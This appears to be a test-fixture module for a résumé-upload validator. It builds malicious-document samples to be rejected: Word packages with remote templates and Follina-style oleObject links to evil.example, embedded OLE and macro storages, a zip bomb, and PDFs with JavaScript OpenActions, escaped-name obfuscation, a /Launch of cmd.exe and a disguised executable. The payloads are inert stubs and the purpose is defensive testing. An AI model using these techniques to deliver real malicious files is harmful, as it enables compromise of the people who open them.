import { PDFDocument, PDFName, PDFString } from "pdf-lib";
import { compoundFile, contentTypes, DOC, EXE, WORD_BODY, zip } from "./fixtures";

/** Files an outside probe sent as résumés: each was accepted with 201 before the checks were made strict. */
const WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
const MAIN_TYPES = contentTypes(`<Override PartName="/word/document.xml" ContentType="${WORD_MAIN}"/>`);
const rels = (relationships: string) =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationships}</Relationships>`;
const REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

/** A Word package with `parts` beside its main document. */
const docx = (parts: Record<string, string>, declaredSizes: Record<string, number> = {}) =>
  zip({ "[Content_Types].xml": MAIN_TYPES, "word/document.xml": WORD_BODY, ...parts }, declaredSizes);

/**
 * 40 part names of about 65,000 characters (5.2 MB: each name is in the local and the central
 * header): the pattern over part names was quadratic in a name's length and stalled the event loop
 * for seconds on each.
 */
export const DOCX_LONG_NAMES = docx(
  Object.fromEntries(
    Array.from({ length: 40 }, (_, i) => [`word/${String(i).padStart(2, "0")}/${"embeddings/".repeat(5_908)}x`, ""]),
  ),
);

export const DOCX_HOSTILE: Record<string, Buffer> = {
  "a remote attachedTemplate": docx({
    "word/_rels/settings.xml.rels": rels(
      `<Relationship Id="r1" Type="${REL}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>`,
    ),
  }),
  "an external oleObject (mhtml:, the Follina pattern)": docx({
    "word/_rels/document.xml.rels": rels(
      `<Relationship Id="r1" Type="${REL}/oleObject" Target="mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html" TargetMode="External"/>`,
    ),
  }),
  "an altChunk RTF": docx({
    "word/_rels/document.xml.rels": rels(`<Relationship Id="r1" Type="${REL}/aFChunk" Target="afchunk.rtf"/>`),
    "word/afchunk.rtf": "{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}",
  }),
  "an .xlsm under embeddings/": docx({ "word/embeddings/Book1.xlsm": "PK not really" }),
  "an external file:// image": docx({
    "word/_rels/document.xml.rels": rels(
      `<Relationship Id="r1" Type="${REL}/image" Target="file://evil.example/share/a.png" TargetMode="External"/>`,
    ),
  }),
  "a part that inflates to 1 GiB": docx({ "word/media/bomb.xml": "" }, { "word/media/bomb.xml": 1024 ** 3 }),
};

/** A DOCX with a link to the candidate's profile: an external relationship that is only a hyperlink. */
export const DOCX_WITH_HYPERLINK = docx({
  "word/_rels/document.xml.rels": rels(
    `<Relationship Id="r1" Type="${REL}/hyperlink" Target="https://www.linkedin.com/in/ravi" TargetMode="External"/>`,
  ),
});

export const DOC_HOSTILE: Record<string, Buffer> = {
  "an embedded OLE Package (ObjectPool)": compoundFile({
    WordDocument: Buffer.alloc(1536, 0xec),
    "ObjectPool/_1234/\u0001Ole10Native": Buffer.from("MZ program"),
  }),
  "a lower-case macros storage": compoundFile({
    WordDocument: Buffer.alloc(1536, 0xec),
    "macros/VBA/dir": Buffer.alloc(64),
  }),
};

/** A real one-page PDF made by pdf-lib, with `change` applied; `objectStreams` keeps its objects compressed in object streams. */
async function pdf(change: (doc: PDFDocument) => void | Promise<void>, objectStreams = false): Promise<Buffer> {
  const doc = await PDFDocument.create();
  doc.addPage();
  await change(doc);
  return Buffer.from(await doc.save({ useObjectStreams: objectStreams }));
}

const javaScriptAction = (doc: PDFDocument) =>
  doc.context.obj({ S: PDFName.of("JavaScript"), JS: PDFString.of("app.alert(1)") });

export async function hostilePdfs(): Promise<Record<string, Buffer>> {
  const openAction = await pdf((doc) => doc.catalog.set(PDFName.of("OpenAction"), javaScriptAction(doc)));
  return {
    "a PE executable that starts with %PDF-": Buffer.concat([Buffer.from("%PDF-1.7\n"), EXE]),
    "HTML with a script that starts with %PDF-": Buffer.from("%PDF-1.4\n<html><script>alert(1)</script></html>"),
    "a PDF whose /OpenAction runs /JavaScript": openAction,
    "a PDF whose /JavaScript is written with #xx escapes, lower case": Buffer.from(
      openAction.toString("latin1").replace("/JavaScript", "/J#61v#61Script").replace("/JS", "/#4aS"),
      "latin1",
    ),
    "a PDF whose script is in a compressed object stream": await pdf((doc) => {
      const names = doc.context.obj({
        JavaScript: doc.context.obj({ Names: [PDFString.of("a"), javaScriptAction(doc)] }),
      });
      doc.catalog.set(PDFName.of("Names"), doc.context.register(names));
    }, true),
    "a PDF with /Launch": await pdf((doc) =>
      doc.catalog.set(
        PDFName.of("OpenAction"),
        doc.context.obj({ S: PDFName.of("Launch"), F: PDFString.of("cmd.exe") }),
      ),
    ),
    "a PDF with an embedded file": await pdf((doc) =>
      doc.attach(Buffer.from("MZ"), "setup.exe", { mimeType: "application/octet-stream" }),
    ),
  };
}

/** A real PDF opening on its first page (an /OpenAction that is a destination, not an action). */
export const pdfOpeningOnFirstPage = () =>
  pdf((doc) => doc.catalog.set(PDFName.of("OpenAction"), doc.context.obj([doc.getPage(0).ref, PDFName.of("Fit")])));

export { DOC };
